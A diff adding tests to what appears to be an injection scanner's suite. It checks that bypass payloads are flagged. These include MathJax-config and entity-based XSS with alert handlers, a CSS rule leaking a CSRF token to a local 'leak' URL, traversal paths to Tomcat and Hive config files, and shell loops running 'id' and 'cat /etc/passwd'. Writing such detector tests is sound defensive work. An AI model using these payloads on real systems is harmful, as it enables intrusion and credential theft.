@@ -3741,3 +3741,33 @@ t.test("forty-second round, from the sixty-eighth part: a call statement through
   t.same(json({ code: ws }), [], "ws's inflate handler")
   t.ok(json({ code: "x');\nthis['al'+'ert'](1);\nthis[a].b(c);\nthis[d].e(f);" }).includes('xss'), 'a sink spelt in pieces among such lines')
 })
+
+t.test("forty-second round, its third review's payloads: each relaxation's bypass, read again", async (t) => {
+  // a line comment in MathJax's configuration ends at CR, U+2028 and U+2029 too
+  for (const end of ['\r', '\u2028', '\u2029']) {
+    const v = `<script>MathJax.Hub.Config({a: 1, //x${end}b: alert(1)\n});</script>`
+    const name = `U+${end.charCodeAt(0).toString(16).padStart(4, '0')}`
+    t.ok(q(v).includes('xss'), name)
+    t.ok(json({ html: `<form id=MathJax><input name=Hub></form>${v}` }).includes('xss'), `${name} with a form for MathJax`)
+  }
+  // a style element that loads anything else beside Google Fonts keeps its import read
+  t.ok(q("<style>@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');\ninput[name=csrf][value^=s3]{background:url(http://127.0.0.1:8999/leak?prefix=s3)}</style>").includes('xss'), 'an import beside a rule sending values out')
+  t.same(q("<style>@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');\ndiv.cell { width: 1000px; }</style>"), [], 'an import beside plain rules')
+  // Apache's installations by their milestones and binary tarballs
+  for (const v of ['../apache-tomcat-10.1.0-M17/conf/tomcat-users.xml', '../apache-tomcat-9.0.0.M26/conf/server.xml', '../apache-hive-3.1.3-bin/conf/hive-site.xml', '..%2fapache-tomcat-9.0.0.M26%2fconf%2ftomcat-users.xml']) t.ok(q(v, 'file').includes('path_traversal'), v)
+  // a loop is a notebook's escape's own, not a document's field's or a command field's; one loop, ending the value
+  t.ok(json({ script: 'for i in a; do echo $i; id; done' }).includes('rce'), 'a command field')
+  const many = Object.fromEntries(Array.from({ length: 14 }, (_, i) => [`k${i}`, `value ${i}`]))
+  t.ok(json({ ...many, setup: 'for i in a; do echo $i; cat /etc/passwd; done' }).includes('rce'), "a document's field")
+  const notebook = (line: string) => json({ cells: [{ cell_type: 'markdown', source: '# x' }, { cell_type: 'code', source: line }], metadata: {}, nbformat: 4, nbformat_minor: 5 })
+  t.ok(notebook('!for i in a; do echo x; done; id > /tmp/p; for j in b; do echo y; done').includes('rce'), 'two loops around a command')
+  // entities a browser does not decode inside a tag: a handler after them is the tag's own
+  for (const v of ['<img src=x &gt; onerror=self.alert(name)>', '<img src=x &gt; <!-- &gt; onerror=self.alert(name) -->']) {
+    t.ok(q(v).includes('xss'), v)
+    t.ok(json({ v }).includes('xss'), `${v} (JSON)`)
+  }
+  // past 64 SVG openings the value as sent and the decoded one cannot be paired: no comment is dropped
+  const padded = 'You can use the icon markup `<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>` in your page, as it is shown below for the example we have here.\n<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/><img src=x &gt; <!-- &gt; onerror=self.alert(name) --></svg>' + '<svgx></svgx>'.repeat(66)
+  t.ok(q(padded).includes('xss'), 'many openings')
+  t.ok(json({ v: padded }).includes('xss'), 'many openings (JSON)')
+})
